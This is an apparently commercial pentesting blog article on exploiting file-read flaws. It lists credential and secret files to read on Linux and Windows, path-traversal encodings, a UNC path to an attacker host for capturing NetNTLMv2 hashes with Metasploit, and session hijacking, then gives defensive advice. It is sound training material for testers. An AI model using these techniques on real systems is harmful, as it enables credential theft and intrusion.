Practical strategies for exploiting FILE READ vulnerabilities

Practical strategies for exploiting FILE READ vulnerabilities

In this article you will learn:

  • What is File Read (unauthorized reading of files), why it is dangerous and what vulnerabilities may be the cause of such condition
  • How to make sure that we are dealing with this vulnerability during testing
  • What are the strategies for exploiting this vulnerability and what can be achieved from it?
  • And what are the generic prevention / detection strategies for web applications.

Note: this article is also available in Polish language version — here.

1. FILE READ — what’s that?

The result of many vulnerabilities in web applications and similar technologies is the so-called file read, which is ability to read content of files. This means that an attacker can learn the contents of some files that are located on some server belonging to the application infrastructure. From the methodology standpoint, file read itself is often consequence of other vulnerabilities being present, such as:

  • SQL Injection
  •SSRF
  • XXE
  • Path traversal

TL;DR — below is a mindmap that summarizes the whole article (although it’sstill worth reading as the concepts are explained in details)

1.1 File read and LFI/RFI

Often, File Read vulnerability may be the result of LFI / RFI (Local / Remote File Inclusion) vulnerability. How are they different? Read means that we can know the content of a file, display or transfer its content to ourselves. This is the case we are discussing.

Inclusion means that the file is additionally being parsed before reading, that is, interpreted by some script / language engine. Inclusion can lead directly to code execution (by parsing) and one of its side effects can be reading files. Currently, “inclusion” is spotted less and less in web applications.

1.2 Exploitation of file reading… so what exactly?

A vulnerability that leads to reading files can have a different level of risk. It all really depends on what actually results from the fact that we can read a file?

In order to qualify a vulnerability as a threat, we must be able to show what actually bad can happen according to the “PoC || GTFO” principle

A Proof of Concept containing content of the /etc/passwd file may look impressive, but what can you really do with this vulnerability and how much can you escalate it to show that an attacker can threaten one of the security components — Confidentiality, Availability or Integrity? As an attacker, can we read something that will actually make us discover some sensitive data? Can we access something that will help us take more control of the application than we are originally able to?2. Confirming the vulnerability — TIPS & TRICKS

If a vulnerability or functionality of the application offers us the ability to read files on the system, we will usually find out about it in two ways:

  • We will be able to blindly read a file that exists 100% on the system, e.g. /etc/passwd or C:\Windows\win.ini• We will be able to read some file from webroot, eg .js file, whose relative location is known from browsing the server, e.g.

Often, however, the app’s responses can be confusing. Some files, that are expected to exist, will not be available for reading. How else can you try to confirm the existence of this vulnerability?

  • Try to provoke Stack Trace / other error message. This might allow you to know the absolute path thatexists on the server and try to reference the existing files like below:
  • Try to read the path “.” or “/” — so read a directory, not a file. In some cases, it may happen that the application will display the full directory listing, which will make the task even easier — by displaying all the files contained there
  • Try to read files other than /etc/passwd — especiallyshorter and not containing non-alphanumeric characters, e.g. on Linux they can be /etc/hostname or /etc/issue,
  • There is a much bigger problem with “sure” files on Windows, but if we control the full path, we can refer to the UNC path (if you don’t know this technique — read on!)

2.1 Do not get confused by the application

Just because a file is unreadable doesn’t mean it doesn’t exist. It could also happen because:

  • The file is too large, or contains characters that “cannot be digested” by the application for some reason. Often, such situation can occur in the case of binary files and in the case of reading files through the XXEvulnerability
  • The application cannot access the file we want to read. Well-configured applications are not allowed to read files on the file system, so files can only be read from webroot. Of course, this still leaves the attacker or tester a lot of room for maneuver — we will also consider such a variant later on.
  • If we want to read a file from another directory using a technique such as Path Traversal, we can use different types of encoding — sometimes ../../ will not work or will be filtered by the application, but e.g. \\ ..\\ ..\\ .. will be alright. Many examples of this type of coding can be found on THIS wordlist, which you can of course modify for the needs of individual tests.
  • It is worth taking the above into account if during the tests we suspect that such a vulnerability exists — it is best to check several different options, because the vulnerability may be somewhat camouflaged.

3. Getting to the coreWe can read files on the server and we want to show how dangerous this vulnerability is, or we even want to obtain additional information and take control over the server. What we do? What files do we read?

3.1 Linux

  • /etc/issue — this file should always exist, it is rather short, but it contains very important information that is useful further — the exact version of the operating system. Thanks to this, we can re-create the environment locally and then find out which files definitely exist on the same version of the system.
  • /etc/shadow — ability to read it is an optimistic scenario, it contains password hashes and reading it means that the application works with root privileges and we can read whatever we want. The hashes can be cracked and then access can be gained through services like SSH.
  • /proc/self/environ, /proc/[number]/environ — path /proc/[id]/environ contains the process environment variables with the process id of [id], self is the current application process. It may turn out that some sensitive data has been passed in to the environment variables to start the application or other process.
  • ~/.bash_history, ~/.zsh_history, /root/.bash_history, etc. — shell history files are extremely interesting places from which we can find out, for example, what operations were performed by the administrator, what other services were recently launched, and sometimes we can also find some credentials typed directly into the command line. Usually we only have access to “our” history, but we can always try to see if we have access to folders of other users. We can find out what users are on the system from, for example,/etc/passwd or the directory listing of the /home folder. Profile files like ~/.bashrc is the same story.
  • ~/.aws/credentials — AWS cloud credentials file. Similar locations include
  • ~/.config/gcloud/access_tokens and ~/.config/gcloud/credentials. In the case of a kubernetes cluster, we can search for a location, e.g. /var/run/secrets/ — these and similar files can provide us with access to a larger infrastructure within which the application operates.
  • ~/.ssh/id_rsa — ssh private key, can be useful for connecting to other hosts or the target host if they are configured to do so — often the traces of the connection can be found in the shell history (e.g. ssh -i [stolen_key]).
  • /dev/null — it may end up with DoS — it’s worth knowing, but not worth testing

The last restort

What if we know that there is a file-reading vulnerability, but there is a limitation, e.g. regarding the extension? What if we can only read files with a certain extension, of a certain length — how to find potential candidates? We can build a similar system locally, e.g. in the form of a virtual machine, and then use the find command:

By running the find command on my system of a similar or the same version as the target system, we can find many files that are candidates for reading. We use the command:

find / -type f -size -510c -name "*.gif" 2>/dev/null

Where the individual arguments mean:

  • / — search entire current filesystem
  • -type f — Find files only
  •-size -510c find files up to 510 characters long
  • -name “*.gif” corresponding to the [whatever] .gif naming scheme
  • 2> /dev/null — redirect all errors to /dev/null (donot display errors in the output)

3.2 Windows

The situation on windows is a bit more complicated, because Windows is much poorer in “interesting files” compared to Linux. Toconfirm the existence of a vulnerability, we can try to read, for example:

  • C:\windows\win.ini — a file that proves the existence of a vulnerability worthless for the attacker
  • C:\boot.ini — as above
  • Remember that on windows you sometimes need to escape the backslash so use “\\” instead of “\”

If there are any services running on Windows, they may have “interestingconfiguration files. We write about services further in generic strategies, and an example can be, for example, a file with AWS credentials, which on Windows is usually located in the directory

  • C:\Users\USERNAME\ .aws\credentials

On the other hand, if we control the full read path, and not only “traversal”, we can call an external server and find out what user the application is using and maybe even crack its password.

Windows treats the so-called UNC path. These are the paths to network shared resources. If we are able to provide the full path, we can specify path like below:

  • \\ourIP\nonexistent_resource


  • \\\\ourIP\\non-existent_resource if the application “escapes” the backslashes.

By making the application running on windows to connect to our server in this way, we may be able to steal the NetNTLMv2 hash —that is, the hash of the user’s password in the context of which the application works. To “pick up” the connection we can use e.g. metasploit

use auxiliary/server/capture/smb module

You can read more about cracking and using NetNTLMv2 hashes HERE.

3.3 TIPS & TRICKS — remaining techniques

Depending on the technology and what files we find on the server, interesting information that can help us get to administration panels, databases, etc. may be in files.

  • A good way is to run the scan, for example with nmap. Thanks to this, we will find out what other services are on the server. Many of them have default configuration files, allowing us, for example, to read the password from there and then log in. An example ofsuch a file can be e.g. in Java applications or tomcat-users.xml containing passwords of tomcat users.
  • It is worth remembering all administrative interfaces that appear in the web application — especially login panels for CMS, Middleware, etc.
  • This also applies to searching for “interesting” files on Windows — there, mainly what you can get depends on the services you will be able to access.
  • And what can be interesting in the webroot itself, i.e. the directory of the web application? Depending on the technology, it is worth focusing on the following clues:


  • Configuration files and included by other files. It is worth checking if any files are “required” or “included” and then follow the trail of subsequent attachments. Finally, we can get to some configuration file that supports e.g. database connections.
  • If we can listdirectories, we can try to find a sessions directory on Apache — then mountthe filename as our PHPSESSID cookie and possibly hijack other people’s sessions
  • .htpasswd file that may contain credentials that we may try to crack.


  • web.config — on older .NET versions, the web.config file contains the so-called Machine Key used to encrypt ViewState parameters. Reading it can help us perform a deserialization attack against the application. You can read more about this technique HERE.
  • the new .NET Core no longer uses this mechanism
  • .ASP files and similar to .PHP files may contain sensitive data


  • .JSP files similar to .ASP and .PHP— we are looking for sensitive data
  • /WEB-INF/web.xml — we are looking for hidden endpoints
  • downloading and decompiling .jar libraries in order to find secrets in the code or to learn about the application logic

Many java mieddleware like Tomcat, Weblogic stores credentials in configuration files — it’s worth looking for them

Other environments and ways

  • In Node.js or ruby we can search for .env, / config files
  • One of the interesting methods may be to run the Content Discovery tool (Dirb, FFuf, GoBuster, Burp Intruder etc.) directly on the vulnerabilities. We can then use a technology-specific wordlist.
  • If the application allows it (it will not be overwhelmed by the number of queries), above technique can find many files. It’s like content discovery on steroids.

4. Summary

There are many problems that may result in reading files. In fact, it depends on the configuration of the application whether the attacker or the pentester will be able to escalate thisvulnerability further. And what can the administrator do to defend himself or detect that someone is trying / exploiting such a vulnerability?

  • The application should operate in the context of a separate user who has appropriate restrictions, e.g. no external access via SSH, and cannot log in with the key alone, and has very limited access to the file system,
  • It is recommended to use the Principle of least privilege — that is, the user should not be able to do anything except the actions required for the operation of the application, e.g. reading and writing only to appropriate locations in the webroot,
  •Reading files can often be a derivative of other vulnerabilities such as eg XXE, so it is an effect, not a cause. Nevertheless, it is worth monitoring any attempts to refer to resources that contain specific sequencesof characters ../ .. \ etc. These types of requests, especially in large numbers, almost certainly mean that someone is trying to get deep into our application,
  • We protect other services through the use of a firewall and block administrative interfaces against access from outside — then there will be no situation where someone reads, for example, a configuration file for a service and then “enters” us through, for example, Tomcat.

Is your company secure online?

Join our list of satisfied customers and safeguard your company’s data!

Trust us and leave your contact details. Our team will contact you to discuss the details and prepare a tailor-made offer for you. Full discretion and confidentialityof your data are guaranteed.